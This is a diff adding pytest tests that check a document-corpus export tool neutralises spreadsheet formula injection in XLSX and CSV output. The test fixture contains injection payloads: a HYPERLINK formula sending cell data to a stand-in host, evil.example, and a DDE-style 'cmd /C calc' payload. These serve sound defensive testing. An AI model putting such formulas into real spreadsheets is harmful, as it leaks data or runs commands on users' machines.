@@ -456,3 +456,79 @@ def test_same_results_on_sqlite_and_postgresql(db_url, tmp_path):
     assert con.execute("SELECT count(*) FROM read_parquet(?)", [str(out)]).fetchone()[0] == 5
     res = export.export(eng, tmp_path / "pg.xlsx")
     assert res["reports"] == 5
+
+
+# ---------------------------------------------------------------- formula injection
+EVIL = {
+    "title": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
+    "unit": "=HYPERLINK(\"http://evil.example/\",\"荔湖街道\")",
+    "path": "@SUM(1+1)*cmd|' /C calc'!A0.txt",
+    "doc_number": "+1+2",
+    "county": "-2+3",
+    "city": "\t=1+1",
+    "province": "\r=1+1",
+}
+
+
+@pytest.fixture
+def evil_db(tmp_path):
+    path = tmp_path / "evil.db"
+    eng = db.connect(path)
+    text = "=1+1 这一段以等号开头\n" + (DEV / "seed-004.txt").read_text(encoding="utf-8")
+    rows = store.rows_of(analyze_text(text, "evil.txt"))
+    rows["report"].update(EVIL, sha256="e" * 64)
+    with eng.begin() as c:
+        store.insert(c, rows)
+    return eng, str(path)
+
+
+def test_formula_like_text_is_text_in_xlsx(evil_db, tmp_path):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    eng, path = evil_db
+    out = tmp_path / "evil.xlsx"
+    r = _run("corpus", "export", str(out), "--db", path, "--title", "=1+2 标题")
+    assert r.exit_code == 0, r.output
+    with zipfile.ZipFile(out) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
+        assert sheets
+        for n in sheets:
+            assert "<f>" not in z.read(n).decode("utf-8"), n       # no formula anywhere
+    wb = load_workbook(out)
+    ws = wb["报告一览"]
+    head = [c.value for c in ws[2]]
+    row = {h: c for h, c in zip(head, ws[3])}
+    assert ws["A1"].value == "=1+2 标题" and ws["A1"].data_type == "s"
+    for col, key in (("单位", "unit"), ("标题", "title"), ("文件", "path"), ("发文字号", "doc_number"),
+                     ("县", "county"), ("市", "city"), ("省", "province")):
+        cell = row[col]
+        assert cell.value == EVIL[key], (col, cell.value)       # shown exactly as written
+        assert cell.data_type == "s" and cell.quotePrefix, col  # and kept text when edited
+    # the unit shows the same on every sheet; the excerpt of the finding sheet too
+    for name in wb.sheetnames:
+        for r_ in wb[name].iter_rows():
+            for c in r_:
+                if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r":
+                    assert c.data_type == "s" and c.quotePrefix, (name, c.coordinate, c.value)
+    # ordinary text is untouched: no quote prefix on a plain unit elsewhere
+    assert not row["层级"].quotePrefix
+
+
+def test_formula_like_text_is_quoted_in_csv(evil_db, tmp_path):
+    eng, path = evil_db
+    out = tmp_path / "evil.csv"
+    assert _run("corpus", "export", str(out), "--db", path).exit_code == 0
+    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
+    rec = dict(zip(rows[0], rows[1]))
+    for col, key in (("单位", "unit"), ("标题", "title"), ("文件", "path"), ("发文字号", "doc_number"),
+                     ("县", "county"), ("市", "city"), ("省", "province")):
+        assert rec[col] == "'" + EVIL[key], (col, rec[col])
+    assert rec["层级"] and not rec["层级"].startswith("'")
+    # corpus table --format csv too
+    r = _run("corpus", "table", "--indicator", "mediation.cases", "--format", "csv", "--db", path)
+    assert r.exit_code == 0, r.output
+    body = list(csv.reader(io.StringIO(r.output.lstrip("\ufeff"))))
+    assert body[1][1] == "'" + EVIL["unit"] and body[1][-1] == "'" + EVIL["path"]
+
